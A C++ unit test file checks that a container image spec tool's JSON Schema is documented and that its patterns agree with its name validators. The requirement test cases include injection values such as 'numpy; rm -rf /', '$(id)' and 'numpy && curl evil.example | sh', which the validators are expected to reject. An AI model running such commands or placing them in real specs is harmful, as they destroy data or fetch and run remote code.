// The spec's JSON Schema: well formed, every key documented, the same language as read_spec, and
// value patterns that agree with names.cpp. (tests/cli/schema_test.sh runs a real validator over
// the example specs and the bad-spec corpus.)

#include "unit/test_util.hpp"

#include <imgspec/spec/model.hpp>
#include <imgspec/spec/names.hpp>
#include <imgspec/spec/platform.hpp>
#include <imgspec/spec/schema.hpp>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include <functional>
#include <regex>
#include <set>

namespace fs = std::filesystem;
using namespace imgspec;
using Json = nlohmann::json;

namespace {

Json schema() {
    return Json::parse(spec::json_schema());
}

// Calls `f(path, property)` for every entry of every "properties" map in the schema.
void each_property(const Json& j, const std::string& path,
                   const std::function<void(const std::string&, const Json&)>& f) {
    if (j.is_object()) {
        for (const auto& [k, v] : j.items()) {
            if (k == "properties" && v.is_object()) {
                for (const auto& [name, prop] : v.items()) {
                    f(path + "/" + name, prop);
                    each_property(prop, path + "/" + name, f);
                }
            } else {
                each_property(v, path + "/" + k, f);
            }
        }
    } else if (j.is_array()) {
        for (std::size_t i = 0; i < j.size(); ++i) {
            each_property(j[i], path + "/" + std::to_string(i), f);
        }
    }
}

// The value matches the schema definition's pattern (and length limits), as a JSON Schema
// validator (ECMA-262 regular expressions, unanchored search) would see it.
bool matches(const Json& def, const std::string& value) {
    if (def.contains("minLength") && value.size() < def["minLength"].get<std::size_t>()) {
        return false;
    }
    if (def.contains("maxLength") && value.size() > def["maxLength"].get<std::size_t>()) {
        return false;
    }
    if (def.contains("pattern") &&
        !std::regex_search(value,
                           std::regex(def["pattern"].get<std::string>(), std::regex::ECMAScript))) {
        return false;
    }
    if (def.contains("not") && def["not"].contains("pattern") &&
        std::regex_search(
            value, std::regex(def["not"]["pattern"].get<std::string>(), std::regex::ECMAScript))) {
        return false;
    }
    return true;
}

} // namespace

TEST(Schema, IsDraft202012AndStable) {
    Json s = schema();
    EXPECT_EQ(s["$schema"], "https://json-schema.org/draft/2020-12/schema");
    EXPECT_EQ(s["type"], "object");
    EXPECT_EQ(s["additionalProperties"], false);
    EXPECT_EQ(spec::json_schema(), spec::json_schema());
    EXPECT_EQ(spec::json_schema().back(), '\n');
}

TEST(Schema, EveryKeyHasADescriptionAndExamples) {
    int n = 0;
    each_property(schema(), "", [&](const std::string& path, const Json& prop) {
        if (path.rfind("/allOf/", 0) == 0) {
            return; // the rules across keys (if/then) name keys, they do not define them
        }
        ++n;
        ASSERT_TRUE(prop.is_object()) << path;
        EXPECT_TRUE(prop.contains("description") && !prop["description"].get<std::string>().empty())
            << path << " has no description";
        EXPECT_TRUE(prop.contains("examples") && prop["examples"].is_array() &&
                    !prop["examples"].empty())
            << path << " has no examples";
    });
    EXPECT_GT(n, 60);
    for (const auto& k : spec::documented_keys()) {
        EXPECT_FALSE(k.description.empty()) << k.path;
        EXPECT_TRUE(Json::parse(k.examples).is_array()) << k.path;
    }
}

TEST(Schema, HasEveryTopKey) {
    Json s = schema();
    std::set<std::string> top;
    for (const auto& [k, v] : s["properties"].items()) {
        top.insert(k);
    }
    EXPECT_EQ(top,
              (std::set<std::string>{"name",        "registry",   "platform", "python_version",
                                     "extendable",  "tag",        "from",     "registry_secret",
                                     "layers",      "secrets",    "user",     "entrypoint",
                                     "cmd",         "labels",     "expose",   "stopsignal",
                                     "healthcheck", "cache_from", "cache_to", "matrix"}));
    // Base forms and layer kinds come from their descriptors; kinds_test.cpp checks that every
    // one of the model is there.
    EXPECT_TRUE(s["$defs"]["from"]["properties"].contains("debian_base"));
    EXPECT_TRUE(s["$defs"].contains("layer.pip_packages"));
    EXPECT_EQ(s["$defs"]["platform"]["enum"].get<std::vector<std::string>>(),
              spec::known_platforms());
}

// The corpus that the schema accepts (tests/cli/schema_test.sh) has the shape read_spec accepts:
// the two describe one language. (Files it names do not exist: that is plan's concern.)
TEST(Schema, EveryKeyCorpusReadsWithoutErrors) {
    int n = 0;
    for (const auto& de : fs::directory_iterator(fs::path(IMGSPEC_TEST_DATA) / "schema")) {
        SCOPED_TRACE(de.path().string());
        try {
            (void)spec::read_spec(de.path());
        } catch (const SpecError& e) {
            ADD_FAILURE() << e.what();
        }
        ++n;
    }
    EXPECT_GE(n, 8);
}

struct PatternCase {
    const char* def;
    std::function<std::string(std::string_view)> check;
    std::vector<std::string> values;
};

// names.cpp and the schema's patterns say the same about the same values.
TEST(Schema, PatternsAgreeWithNameChecks) {
    Json defs = schema()["$defs"];
    const std::vector<PatternCase> cases = {
        {"image_name",
         spec::check_image_name,
         {"trainer", "ml/eval-job", "a__b", "a--b", "a.b_c", "MyApp", "", "a/", "-a", "a..b",
          "a___b", "ml/Eval"}},
        {"registry",
         spec::check_registry,
         {"registry.example.com/ml", "127.0.0.1:5000", "localhost:5000/a/b", "[::1]:5000", "host",
          "https://registry.example.com", "reg istry", "host:port", "-host.com",
          "Host.Example.COM/path", "host/Path"}},
        {"tag",
         spec::check_tag,
         {"v1", "latest", "1.0", "_x", ".x", "-x", "v1/beta", std::string(128, 'a'),
          std::string(129, 'a'), "a+b"}},
        {"image_ref",
         spec::check_image_ref,
         {"python:3.12-slim-bookworm", "127.0.0.1:5000/busybox:latest",
          "nvcr.io/nvidia/cuda:12.4.1-runtime-ubuntu22.04", "busybox",
          "localhost/x@sha256:" + std::string(64, 'a'), "x@sha256:abc", "Python:3.12 slim", "a:b:c",
          "Registry.Example.com/x:1", "UPPER", "a//b"}},
        {"env_name", spec::check_env_name, {"HF_HOME", "_x", "a1", "1BAD", "MY-VAR", "", "A B"}},
        {"secret_name", spec::check_secret_name, {"PIP_TOKEN", "a.b-c", "a b", "", "a/b"}},
        {"python_version", spec::check_python_version, {"3.12", "3.9", "3", "3.12.1", "a.b", "3."}},
        {"apt_package",
         spec::check_apt_package,
         {"git", "g++", "libc6:amd64", "curl=7.88.1-10", "vim/bookworm-backports", "Vim", "-y",
          "git curl", "curl;id", "a"}},
        {"requirement",
         spec::check_pip_requirement,
         {"numpy==2.1", "pandas[excel]>=2", "requests[security,socks]~=2.31",
          "torch @ https://download.example.com/torch-2.4-cp312-none-any.whl ; python_version < "
          "'3.13'",
          "scipy>=1.11; python_version >= '3.10'",
          "pywin32; sys_platform == 'win32' or (platform_machine == 'x86_64' and os_name == 'nt')",
          "numpy; rm -rf /", "`id`", "$(id)", "numpy && curl evil.example | sh", "", "numpy\n"}},
    };
    for (const auto& c : cases) {
        ASSERT_TRUE(defs.contains(c.def)) << c.def;
        for (const auto& v : c.values) {
            EXPECT_EQ(matches(defs[c.def], v), c.check(v).empty())
                << c.def << " '" << v << "': schema "
                << (matches(defs[c.def], v) ? "accepts" : "rejects") << ", names.cpp says '"
                << c.check(v) << "'";
        }
    }
}

TEST(Schema, DocumentedKeysAreTheTable) {
    std::set<std::string> paths;
    for (const auto& k : spec::documented_keys()) {
        EXPECT_TRUE(paths.insert(k.path).second) << k.path << " twice";
    }
    for (const char* p :
         {"name", "from.debian_base.flyte_version", "layers[].pip_packages", "layers[].index_url",
          "secret_mounts[].as_env_var", "secrets.NAME.file"}) {
        EXPECT_TRUE(paths.count(p)) << p;
    }
}
